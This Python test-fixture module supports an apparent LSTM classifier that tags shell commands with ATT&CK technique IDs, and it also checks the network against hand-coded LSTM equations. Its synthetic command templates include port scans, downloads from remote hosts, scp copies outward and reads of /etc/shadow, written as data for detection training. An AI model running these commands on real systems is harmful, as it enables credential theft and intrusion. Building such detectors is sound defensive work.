"""Labelled commands, small networks and the published equations for the tests of ``lstm``; all data made up."""

import random
from dataclasses import replace
from typing import Any

import numpy as np
import numpy.typing as npt

from ttpline.domain.labelled import LabelledCommand
from ttpline.models._lstm_network import initial_arrays
from ttpline.models.lstm import Lstm, LstmParams

SEED = 3
SMALL = LstmParams(vocabulary=200, length=8, embedding=12, units=10, batch=8, epochs=4, lr=0.01)
"""Learns ``labelled()`` in a second."""

_TEMPLATES = {
    "Normal": ("ls -la /home/{w}", "git commit -m {w}", "vim {w}.txt"),
    "T1046": ("nmap -sV 198.51.100.{n}", "nc -zv 198.51.100.{n} {n}", "masscan -p{n} 198.51.100.0/24"),
    "T1105": ("wget http://192.0.2.{n}/{w}", "curl -o /tmp/{w} http://192.0.2.{n}/{w}", "scp {w} u@192.0.2.{n}:/tmp"),
    "T1003.008": ("cat /etc/shadow", "cp /etc/shadow /tmp/{w}", "unshadow /etc/passwd /etc/shadow > {w}"),
}
_WORDS = ("alpha", "beta", "gamma", "delta", "naïve", "İzmir", "x" * 30, "$HOME", "a.b.c", "%TEMP%")


def commands(count: int, seed: int = SEED) -> list[tuple[str, str]]:
    """``(command, label)``; drawn from the templates, sometimes two in one line."""
    chance = random.Random(seed)
    found = []
    for _ in range(count):
        label = chance.choice(sorted(_TEMPLATES))
        line = chance.choice(_TEMPLATES[label])
        if chance.random() < 0.3:
            line += " ; " + chance.choice(_TEMPLATES[chance.choice(sorted(_TEMPLATES))])
        found.append((line.format(w=chance.choice(_WORDS), n=chance.randrange(1, 255)), label))
    return found


def labelled(count: int = 96, seed: int = SEED) -> list[LabelledCommand]:
    """Rows in groups of three, with counts from 1 to 4."""
    return [
        LabelledCommand(command, label, group=str(at // 3), count=1.0 + at % 4)
        for at, (command, label) in enumerate(commands(count, seed))
    ]


def fitted(params: LstmParams = SMALL, *, seed: int = SEED, **changes: object) -> Lstm:
    """A model of ``labelled()``; ``changes`` are to ``params``."""
    model = Lstm(replace(params, **changes))  # type: ignore[arg-type]
    model.fit(labelled(), [], seed)
    return model


Array = npt.NDArray[Any]
WORDS, LABELS = 30, 4


def arrays_of(seed: int = 1) -> dict[str, Array]:
    """Initial weights, with random biases too so that none hides behind a 0."""
    random = np.random.default_rng(seed)
    arrays: dict[str, Array] = dict(initial_arrays(WORDS, LABELS, SMALL, random))
    for name in ("bias", "dense_bias"):
        arrays[name] = random.normal(size=arrays[name].shape).astype(np.float32)
    arrays["embedding"] *= 20
    return arrays


def ids_of(rows: int = 40) -> Array:
    """Random commands of every length from none to all."""
    random = np.random.default_rng(2)
    ids = random.integers(1, WORDS, (rows, SMALL.length)).astype(np.int32)
    for row in range(rows):
        ids[row, row % (SMALL.length + 1) :] = 0
    return ids


def sigmoid(values: Array) -> Array:
    return np.asarray(1.0 / (1.0 + np.exp(-values)))


def by_the_equations(arrays: dict[str, Array], ids: Array, *, mask_zero: bool) -> Array:
    """Hochreiter and Schmidhuber's cell with the forget gate of Gers et al., step by step, in float64.

    i = σ(x Wi + h Ui + bi) · f = σ(x Wf + h Uf + bf) · g = tanh(x Wc + h Uc + bc) · o = σ(x Wo + h Uo + bo) ·
    c' = f c + i g · h' = o tanh(c'); then the dense layer on the last h. Gates stand as i, f, c, o in Keras' arrays.
    """
    wide = {name: array.astype(np.float64) for name, array in arrays.items()}
    units = wide["dense"].shape[0]
    gate = {name: slice(at * units, (at + 1) * units) for at, name in enumerate("ifco")}
    found = []
    for row in ids:
        hidden, cell = np.zeros(units), np.zeros(units)
        for word in row:
            if mask_zero and word == 0:
                continue
            sums = wide["embedding"][word] @ wide["kernel"] + hidden @ wide["recurrent"] + wide["bias"]
            entry, forget, leave = (sigmoid(sums[gate[name]]) for name in "ifo")
            cell = forget * cell + entry * np.tanh(sums[gate["c"]])
            hidden = leave * np.tanh(cell)
        found.append(hidden @ wide["dense"] + wide["dense_bias"])
    return np.array(found)
